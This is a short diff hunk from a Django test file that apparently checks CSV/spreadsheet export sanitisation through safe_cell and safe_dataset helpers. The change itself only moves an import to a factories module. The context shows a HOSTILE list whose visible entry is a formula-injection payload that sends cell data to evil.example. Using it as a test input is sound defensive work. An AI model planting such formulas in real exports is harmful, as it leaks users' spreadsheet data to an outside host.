@@ -11,7 +11,7 @@ from django.core.cache import cache
 
 from club import services as club_services
 from club.exports import safe_cell, safe_dataset
-from tests.competition.test_league_ranking import finished, make_league
+from tests.competition.factories import finished, make_league
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
